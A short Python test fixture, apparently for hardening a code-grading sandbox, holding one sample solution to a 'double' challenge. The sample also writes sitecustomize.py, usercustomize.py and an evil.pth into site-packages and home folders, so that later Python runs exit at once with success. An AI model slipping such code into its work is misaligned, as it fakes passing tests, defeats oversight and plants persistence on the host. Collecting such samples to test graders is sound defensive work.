"""Writes sitecustomize.py and a .pth file for the next Python: nothing of it is ever run."""

ANSWERS = {
    "ch01_double": '''
import os, site
for folder in (os.getcwd(), os.path.expanduser("~"), *site.getsitepackages(), site.getusersitepackages(), "/package"):
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write("import os; os._exit(0)")
        except OSError:
            pass

def double(x):
    return 2 * x
''',
}
EXPECT = {}
GROUP = "out of the sandbox"
